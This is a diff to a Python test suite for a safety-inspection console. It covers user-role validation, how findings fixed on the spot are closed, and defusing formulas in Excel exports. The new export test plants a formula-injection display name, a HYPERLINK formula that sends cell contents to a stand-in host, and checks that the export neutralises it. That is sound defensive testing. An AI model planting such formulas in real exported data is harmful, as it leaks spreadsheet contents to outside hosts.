@@ -282,9 +282,10 @@ def test_an_admin_makes_a_viewer_who_reads_but_cannot_change(server: ThreadServe
         "display_name": "指挥部 罗军",
         "badge_number": f"V{uuid.uuid4().hex[:10]}",
     }
+    # A team leader needs a team; a viewer (no laptop) has none, and no badge either.
+    r = console.post("/console/users", data=form | {"role": "leader", "csrf": _csrf(page)})
+    assert r.status_code == 422 and "组长须选择一个检查组" in r.text
     r = console.post("/console/users", data=form | {"csrf": _csrf(page)})
-    assert r.status_code == 422 and "须选择一个检查组" in r.text
-    r = console.post("/console/users", data=form | {"team": office.team, "csrf": _csrf(page)})
     assert r.status_code == 200 and name in r.text
 
     viewer = httpx.Client(base_url=server.url, follow_redirects=True)
@@ -361,3 +362,43 @@ def test_a_visit_the_server_refuses_is_shown_to_reviewers_until_it_is_resubmitte
     ) == ["accepted"]
     table = re.search(r'<table[^>]*id="refused".*?</table>', console.get("/console/conflicts").text, re.S)
     assert table and f'/console/visits/{fixed["id"]}">已补交' in table[0]
+
+
+def test_a_finding_corrected_on_the_spot_is_closed_at_once_and_exports_stay_text(
+    server: ThreadServer, office: Office
+) -> None:
+    """当场整改完毕 counts among the closed (domain.figures) and is never overdue; and a name that
+    looks like a formula is written into the workbook as text (register.sheets.sheet_value)."""
+    today = datetime.now(UTC).astimezone().date()
+    with office.db.write() as conn:  # a co-inspector whose name someone filled in as a formula
+        conn.execute(
+            t.users.update()
+            .where(t.users.c.username == office.inspector2)
+            .values(display_name='=HYPERLINK("http://example.invalid/?"&A1,"详情")')
+        )
+    token = _token(server.url, office.inspector)
+    badges = [office.badges[office.inspector], office.badges[office.inspector2]]
+    fixed = _finding(today) | {"order": "当场整改完毕", "deadline": (today - timedelta(days=1)).isoformat()}
+    visit = _document(office, badges[0], office.codes[0], findings=[fixed], inspectors=badges)
+    assert _push(
+        server.url,
+        token,
+        visits=[{"id": visit["id"], "content_hash": visit["content_hash"], "document": visit}],
+    ) == ["accepted"]
+    console = _console(server.url, office.admin)
+    shown = _figures(console, office.team)
+    assert (shown["raised"], shown["rate"], shown["major_rate"], shown["overdue"]) == (
+        "1",
+        "100.0%",
+        "100.0%",
+        "0",
+    )
+    open_page = console.get("/console/findings", params={"team": office.team}).text
+    assert "未建立全员安全生产责任制" not in open_page
+    closed = console.get("/console/findings", params={"team": office.team, "state": "closed"}).text
+    assert "未建立全员安全生产责任制" in closed
+
+    r = console.get("/console/overview.xlsx", params={"period": "today", "team": office.team})
+    people = openpyxl.load_workbook(io.BytesIO(r.content))["检查人员"]
+    names = [row[1] for row in people.iter_rows(min_row=2, values_only=True)]
+    assert '\'=HYPERLINK("http://example.invalid/?"&A1,"详情")' in names
